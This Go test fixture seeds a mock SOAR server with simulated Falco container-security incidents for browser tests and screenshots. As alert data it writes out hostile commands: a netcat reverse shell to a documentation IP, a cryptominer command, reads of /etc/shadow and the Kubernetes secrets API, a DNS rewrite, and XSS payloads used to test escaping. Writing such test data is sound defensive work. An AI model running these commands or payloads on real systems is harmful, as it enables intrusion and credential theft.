package mockphantom

import (
	"bytes"
	"encoding/json"
	"net/http"
	"strconv"
	"testing"
	"time"
)

// Cases that look like what the forwarder sends (see pkg/forwarder's
// mapping): one container per incident, named after the rule, with one
// artifact per alert whose CEF carries the pod, the container and the
// process. Times are fixed so that pages and screenshots repeat.

// fixtureBase is the time of the first alert of the fixtures.
var fixtureBase = time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)

// fixtureWorkload is where an incident happens.
type fixtureWorkload struct {
	namespace, pod, container, id, image, node string
}

var (
	wlCheckout = fixtureWorkload{"shop", "checkout-7d9f8b6c4-x2k9p", "checkout", "3f9a1c2b7d4e", "ghcr.io/acme/checkout:2.4.1", "worker-1"}
	wlFrontend = fixtureWorkload{"shop", "frontend-6b8d5c9f7-lp3vn", "nginx", "a81c44e09b12", "docker.io/library/nginx:1.27.3", "worker-1"}
	wlLedger   = fixtureWorkload{"payments", "ledger-api-5f6c9d7b8-qwm4z", "ledger-api", "77be0d5513ac", "ghcr.io/acme/ledger-api:1.9.0", "worker-2"}
	wlReport   = fixtureWorkload{"batch", "report-runner-28871440-7xk2d", "runner", "c0ffee42d00d", "python:3.12-slim", "worker-3"}
	wlCoreDNS  = fixtureWorkload{"kube-system", "coredns-5d78c9869d-8hx6m", "coredns", "0d4db1e6a2f3", "registry.k8s.io/coredns/coredns:v1.12.0", "worker-2"}
	wlExporter = fixtureWorkload{"monitoring", "node-exporter-9zq4t", "node-exporter", "5e5e1b0c9a77", "quay.io/prometheus/node-exporter:v1.8.2", "worker-3"}
)

// fixtureAlert is one alert of an incident, at an offset from its first.
type fixtureAlert struct {
	after                            time.Duration
	process, parent, cmd, user, file string
	uid, terminal                    int
	eventType                        string
}

// fixtureCase is one incident.
type fixtureCase struct {
	key                      string // how tests refer to it
	rule, priority, severity string
	status, owner            string // set after creation when not empty
	start                    time.Duration
	wl                       fixtureWorkload
	alerts                   []fixtureAlert
}

// analystCases are the cases of the browser tests and the screenshots:
// several rules, severities, namespaces, nodes and statuses.
var analystCases = []fixtureCase{
	{key: "shell", rule: "Terminal shell in container", priority: "Notice", severity: "low", start: 0, wl: wlCheckout,
		alerts: []fixtureAlert{
			{0, "bash", "runc", "bash", "root", "", 0, 34816, "execve"},
			{48 * time.Second, "cat", "bash", "cat /etc/os-release", "root", "/etc/os-release", 0, 34816, "execve"},
			{3*time.Minute + 5*time.Second, "curl", "bash", "curl -s http://checkout-db:5432/", "root", "", 0, 34816, "execve"},
			{6*time.Minute + 40*time.Second, "bash", "runc", "bash -i", "root", "", 0, 34817, "execve"},
		}},
	{key: "shadow", rule: "Read sensitive file untrusted", priority: "Warning", severity: "medium", start: 9 * time.Minute, wl: wlLedger,
		status: "open", owner: "alice",
		alerts: []fixtureAlert{
			{0, "cat", "sh", "cat /etc/shadow", "app", "/etc/shadow", 1000, 0, "openat"},
			{2 * time.Second, "cat", "sh", "cat /etc/sudoers", "app", "/etc/sudoers", 1000, 0, "openat"},
		}},
	{key: "dropexec", rule: "Drop and execute new binary in container", priority: "Critical", severity: "high", start: 14 * time.Minute, wl: wlFrontend,
		alerts: []fixtureAlert{
			{0, "kworker", "sh", "/tmp/.x/kworker --daemon", "nginx", "", 101, 0, "execve"},
			{90 * time.Second, "kworker", "sh", "/tmp/.x/kworker --daemon --retry", "nginx", "", 101, 0, "execve"},
			{4 * time.Minute, "kworker", "kworker", "/tmp/.x/kworker -c /tmp/.x/cfg", "nginx", "", 101, 0, "execve"},
		}},
	{key: "miner", rule: "Detect crypto miners using the Stratum protocol", priority: "Critical", severity: "high", start: 21 * time.Minute, wl: wlReport,
		alerts: []fixtureAlert{
			{0, "xmrig", "python3", "xmrig -o stratum+tcp://pool.example.net:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -k", "1001", "", 1001, 0, "connect"},
			{20 * time.Second, "xmrig", "python3", "xmrig -o stratum+tcp://pool.example.net:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -k", "1001", "", 1001, 0, "connect"},
			{65 * time.Second, "xmrig", "python3", "xmrig --donate-level 0 -o stratum+ssl://backup.example.net:443", "1001", "", 1001, 0, "connect"},
			{2 * time.Minute, "xmrig", "python3", "xmrig --donate-level 0 -o stratum+ssl://backup.example.net:443", "1001", "", 1001, 0, "connect"},
			{5 * time.Minute, "xmrig", "python3", "xmrig --donate-level 0 -o stratum+ssl://backup.example.net:443", "1001", "", 1001, 0, "connect"},
		}},
	{key: "apiserver", rule: "Contact K8S API Server From Container", priority: "Notice", severity: "low", start: 27 * time.Minute, wl: wlExporter,
		status: "closed", owner: "bob",
		alerts: []fixtureAlert{
			{0, "curl", "sh", "curl -sk https://kubernetes.default/api/v1/namespaces/kube-system/secrets", "nobody", "", 65534, 0, "connect"},
		}},
	{key: "netcat", rule: "Netcat Remote Code Execution in Container", priority: "Warning", severity: "medium", start: 31 * time.Minute, wl: wlCheckout,
		alerts: []fixtureAlert{
			{0, "nc", "bash", "nc -e /bin/sh 203.0.113.7 4444", "root", "", 0, 34816, "execve"},
			{12 * time.Second, "nc", "bash", "nc -e /bin/sh 203.0.113.7 4445", "root", "", 0, 34816, "execve"},
		}},
	{key: "pkgmgmt", rule: "Launch Package Management Process in Container", priority: "Error", severity: "medium", start: 36 * time.Minute, wl: wlLedger,
		status: "open", owner: "7",
		alerts: []fixtureAlert{
			{0, "apt-get", "sh", "apt-get install -y nmap", "root", "", 0, 0, "execve"},
		}},
	{key: "etc", rule: "Write below etc", priority: "Error", severity: "medium", start: 40 * time.Minute, wl: wlCoreDNS,
		alerts: []fixtureAlert{
			{0, "sed", "sh", "sed -i s/8.8.8.8/203.0.113.53/ /etc/resolv.conf", "root", "/etc/resolv.conf", 0, 0, "openat"},
		}},
	{key: "shell2", rule: "Terminal shell in container", priority: "Notice", severity: "low", start: 44 * time.Minute, wl: wlLedger,
		alerts: []fixtureAlert{
			{0, "sh", "runc", "sh", "app", "", 1000, 34818, "execve"},
			{30 * time.Second, "psql", "sh", "psql -h ledger-db -U ledger -c 'select * from accounts'", "app", "", 1000, 34818, "execve"},
		}},
	{key: "privileged", rule: "Launch Privileged Container", priority: "Informational", severity: "low", start: 49 * time.Minute, wl: wlExporter,
		status: "closed",
		alerts: []fixtureAlert{
			{0, "node_exporter", "containerd-shim", "/bin/node_exporter --path.rootfs=/host", "nobody", "", 65534, 0, "container"},
		}},
}

// hostileCase has values that an attacker in a container chooses: markup,
// control and bidirectional characters, and a very long command line.
var hostileCase = fixtureCase{
	key: "hostile", rule: `<img src=x onerror="document.title='pwned';alert(1)">`, priority: "Critical", severity: "high",
	start: 55 * time.Minute,
	wl: fixtureWorkload{"hostile-ns", `web-<script>document.title="pwned";alert(2)</script>`, "<b>box</b>", "bad0bad0bad0",
		"evil/<iframe src=x>:latest", "node-\u202eevil"},
	alerts: []fixtureAlert{
		{0, "sh", "<svg onload=alert(3)>", `sh -c "<script>alert(4)</script>" ` + "\x1b[31mred\x1b[0m \u202etxt.exe", "root", "/tmp/<i>x</i>", 0, 0, "execve"},
		{time.Second, "sh", "bash", "sh -c '" + string(bytes.Repeat([]byte("A"), 5000)) + "'", "root", "", 0, 0, "execve"},
	},
}

// seedCases posts cases through the REST API, as the forwarder would, and
// sets the statuses and owners they have; it returns their ids by key.
// With e.clock, each case is opened caseOpenDelay after its first alert,
// and the playbooks it starts (if any) run then, before the next case.
func seedCases(t *testing.T, e *testEnv, cases []fixtureCase) map[string]int64 {
	t.Helper()
	ids := map[string]int64{}
	for _, c := range cases {
		first := fixtureBase.Add(c.start)
		var arts []any
		for i, a := range c.alerts {
			at := first.Add(a.after)
			cef := map[string]any{
				"falcoRule": c.rule, "falcoPriority": c.priority, "eventTime": at.Format(time.RFC3339Nano),
				"falcoEventId":        c.key + "-" + strconv.Itoa(i),
				"falcoOutput":         fixtureOutput(c, a, at),
				"kubernetesNamespace": c.wl.namespace, "kubernetesPodName": c.wl.pod,
				"containerId": c.wl.id, "containerName": c.wl.container, "containerImage": c.wl.image,
				"sourceHostName": c.wl.node, "processName": a.process, "parentProcessName": a.parent,
				"processPath": "/usr/bin/" + a.process, "commandLine": a.cmd, "userName": a.user,
				"userId": strconv.Itoa(a.uid), "eventType": a.eventType, "falcoSource": "syscall",
			}
			if a.terminal != 0 {
				cef["terminal"] = strconv.Itoa(a.terminal)
			}
			if a.file != "" {
				cef["fileName"] = a.file
			}
			arts = append(arts, map[string]any{
				"name": c.rule, "label": "falco", "type": "falco event", "severity": c.severity,
				"source_data_identifier": "falco-event-" + c.key + "-" + strconv.Itoa(i),
				"start_time":             at.Format(time.RFC3339Nano),
				"cef":                    cef,
				"cef_types": map[string][]string{
					"kubernetesNamespace": {"k8s namespace"}, "kubernetesPodName": {"k8s pod name"},
					"containerId": {"container id"}, "containerImage": {"container image"},
					"commandLine": {"command line"}, "sourceHostName": {"host name"},
				},
				"data":           map[string]any{"rule": c.rule, "priority": c.priority, "output_fields": map[string]any{"proc.cmdline": a.cmd}},
				"run_automation": i == len(c.alerts)-1,
			})
		}
		var buf bytes.Buffer
		enc := json.NewEncoder(&buf)
		enc.SetEscapeHTML(false) // a raw "<", as most clients send it
		err := enc.Encode(map[string]any{
			"name": c.rule, "label": "events", "severity": c.severity, "status": "new",
			"description":            fixtureOutput(c, c.alerts[0], first),
			"source_data_identifier": "falco-case-" + c.key,
			"start_time":             first.Format(time.RFC3339Nano),
			"data":                   map[string]any{"rule": c.rule},
			"artifacts":              arts,
		})
		if err != nil {
			t.Fatal(err)
		}
		if e.clock != nil {
			e.clock.set(first.Add(caseOpenDelay))
		}
		r := e.do(http.MethodPost, "/rest/container", buf.Bytes(), asAdmin)
		r.wantStatus(t, http.StatusOK)
		id := num(r.decode(t)["id"])
		ids[c.key] = id
		if e.srv.playbooks != nil {
			e.waitPlaybooks() // they run at the case's time, before the next case
		}
		if c.status != "" || c.owner != "" {
			u := map[string]any{}
			if c.status != "" {
				u["status"] = c.status
			}
			if n, err := strconv.Atoi(c.owner); err == nil {
				u["owner_id"] = n
			} else if c.owner != "" {
				u["owner_id"] = c.owner
			}
			e.do(http.MethodPost, "/rest/container/"+itoa(id), u, asAdmin).wantStatus(t, http.StatusOK)
		}
	}
	return ids
}

// fixtureOutput is the alert's Falco output line.
func fixtureOutput(c fixtureCase, a fixtureAlert, at time.Time) string {
	return at.Format("15:04:05.000000000") + ": " + c.priority + " " + c.rule + " (user=" + a.user +
		" command=" + a.cmd + " parent=" + a.parent + " container=" + c.wl.container +
		" k8s.ns=" + c.wl.namespace + " k8s.pod=" + c.wl.pod + " image=" + c.wl.image + ")"
}
